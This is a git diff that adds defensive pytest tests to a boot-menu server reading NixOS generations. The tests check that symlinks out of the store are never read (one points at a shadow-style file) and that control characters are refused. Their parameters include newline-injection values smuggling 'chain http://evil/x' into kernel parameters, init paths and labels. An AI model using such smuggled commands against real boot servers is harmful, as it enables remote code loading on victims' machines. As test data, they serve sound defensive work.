@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from appliance.demo.store import add_generation, make_toplevel
+from appliance.demo.store import add_generation, edit_bootspec, make_toplevel
 from appliance.errors import GenerationError, PathEscapesStore
 from appliance.nix import StoreRoots, read_generation, read_profile, register_generation
 
@@ -251,6 +251,138 @@ def test_initrd_escaping_via_boot_json(store_dir, roots, profile, tmp_path):
 
     gen = broken(store_dir, roots, profile, "initrd-escape", damage)
     assert "initrd" in problems_text(gen) and "outside" in problems_text(gen)
+
+
+# -- what a toplevel holds becomes generated boot text: it must stay in the store and in one line --
+
+
+@pytest.mark.parametrize("name", ["kernel-params", "nixos-version", "system"])
+def test_toplevel_text_file_linking_out_of_the_store_is_never_read(store_dir, roots, profile, tmp_path, name):
+    """A store path may hold a symlink to anywhere; its target must not end up in cmdline.txt or a
+    menu sent over the network (the server reads as root: /etc/shadow would do)."""
+    secret = Path(os.path.realpath(tmp_path)) / "shadow"
+    secret.write_text("root:$6$SECRETHASH:19000\n")
+
+    def damage(top):
+        relink(top / name, secret)
+
+    gen = broken(store_dir, roots, profile, "leak", damage, bootspec=False) if name == "kernel-params" else None
+    if gen is not None:
+        assert "kernel-params" in problems_text(gen) and "outside" in problems_text(gen)
+        assert "SECRETHASH" not in problems_text(gen)
+    else:
+        top = make_toplevel(store_dir, "pi", "leak", bootspec=False)
+        damage(top)
+        add_generation(profile, top)
+        gen = read_profile(profile, roots).get(1)
+    assert not any("SECRETHASH" in part for part in (*gen.kernel_params, gen.label, gen.system))
+
+
+def test_boot_json_linking_out_of_the_store_is_never_read(store_dir, roots, profile, tmp_path):
+    outside = Path(os.path.realpath(tmp_path)) / "boot.json"
+
+    def damage(top):
+        outside.write_bytes((top / "boot.json").read_bytes())
+        edit_bootspec(top, kernelParams=["from=the-store"])
+        relink(top / "boot.json", outside)
+
+    gen = broken(store_dir, roots, profile, "bootspec-leak", damage)
+    assert "boot.json" in problems_text(gen) and "outside" in problems_text(gen)
+
+
+@pytest.mark.parametrize("param", ["quiet\n:evil\nchain http://evil/x", "a\rb", "esc\x1b[2J", "tab\there",
+                                   "nul\x00", "line\u2028sep"])
+def test_kernel_param_with_a_control_character_is_refused(store_dir, roots, profile, param):
+    """cmdline.txt is one line (the Pi firmware reads the first), and every menu and script line
+    ends at a newline: a parameter that breaks the line would inject the rest."""
+    gen = broken(store_dir, roots, profile, "ctl", lambda top: edit_bootspec(top, kernelParams=["quiet", param]))
+    assert "kernel parameter" in problems_text(gen) and "control character" in problems_text(gen)
+    assert "\n" not in problems_text(gen) and "\r" not in problems_text(gen)
+
+
+def test_kernel_param_with_spaces_from_boot_json_is_kept(store_dir, roots, profile):
+    """``dyndbg="file foo.c +p"`` is one bootspec entry with spaces: legitimate, kept as written."""
+    top = make_toplevel(store_dir, "pi", "dyndbg")
+    edit_bootspec(top, kernelParams=['dyndbg="file foo.c +p"', "quiet"])
+    add_generation(profile, top)
+    gen = read_profile(profile, roots).get(1)
+    assert gen.valid, gen.problems
+    assert gen.kernel_params == ('dyndbg="file foo.c +p"', "quiet")
+
+
+@pytest.mark.parametrize("init", ["{top}/init\nchain http://evil/x", "{top}/init extra=1", "{top}/init\t"])
+def test_init_path_that_cannot_be_one_kernel_parameter_is_refused(store_dir, roots, profile, init):
+    def damage(top):
+        weird = init.format(top=top)
+        (top / weird.rsplit("/", 1)[1]).write_text("#!/bin/sh\n")   # exists: only its name is wrong
+        edit_bootspec(top, init=weird)
+
+    gen = broken(store_dir, roots, profile, "init-name", damage)
+    assert "init" in problems_text(gen)
+    assert "\n" not in problems_text(gen)
+
+
+def test_init_that_is_a_directory_is_refused(store_dir, roots, profile):
+    def damage(top):
+        os.unlink(top / "init")
+        (top / "init").mkdir()
+
+    gen = broken(store_dir, roots, profile, "init-dir", damage, bootspec=False)
+    assert "init" in problems_text(gen) and "not a regular file" in problems_text(gen)
+
+
+@pytest.mark.parametrize("what", ["kernel", "initrd"])
+def test_empty_kernel_or_initrd_is_refused(store_dir, roots, profile, what):
+    """A zero-byte kernel or initrd (a truncated copy) never boots: listed with why, not served."""
+    gen = broken(store_dir, roots, profile, f"empty-{what}",
+                 lambda top: open(os.path.realpath(top / what), "wb").close())
+    assert what in problems_text(gen) and "empty" in problems_text(gen)
+
+
+def test_huge_kernel_params_file_is_refused_without_reading_it(store_dir, roots, profile):
+    """Reading is bounded: a 20 MB kernel-params file costs neither 400 MB of memory nor seconds."""
+    import tracemalloc
+
+    good = make_toplevel(store_dir, "pi", "good")
+    add_generation(profile, good)
+    top = make_toplevel(store_dir, "pi", "huge", bootspec=False)
+    (top / "kernel-params").write_text("x=1 " * 5_000_000)
+    add_generation(profile, top)
+    tracemalloc.start()
+    try:
+        prof = read_profile(profile, roots)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    gen = prof.get(2)
+    assert not gen.valid and "kernel-params" in problems_text(gen)
+    assert peak < 2_000_000
+
+
+def test_boot_json_that_is_not_a_regular_file_is_refused(store_dir, roots, profile):
+    """A FIFO named boot.json (a test store can hold one) must not hang the reader."""
+    def damage(top):
+        os.unlink(top / "boot.json")
+        os.mkfifo(top / "boot.json")
+
+    gen = broken(store_dir, roots, profile, "fifo", damage)
+    assert "boot.json" in problems_text(gen)
+
+
+@pytest.mark.parametrize("bootspec", [True, False])
+def test_label_is_one_printable_line(store_dir, roots, profile, bootspec):
+    """The label is display text in menus: newlines and control characters become spaces."""
+    top = make_toplevel(store_dir, "pi", "x", bootspec=bootspec)
+    label = "25.05\n:evil\r\nchain http://evil/label\x1b[0m"
+    if bootspec:
+        edit_bootspec(top, label=label)
+    else:
+        (top / "nixos-version").write_text(label)
+    add_generation(profile, top)
+    gen = read_profile(profile, roots).get(1)
+    assert gen.valid, gen.problems
+    assert gen.label.isprintable() and "  " not in gen.label
+    assert gen.label.startswith("25.05 :evil chain http://evil/label")
 
 
 # -- profiles ---------------------------------------------------------------------------------
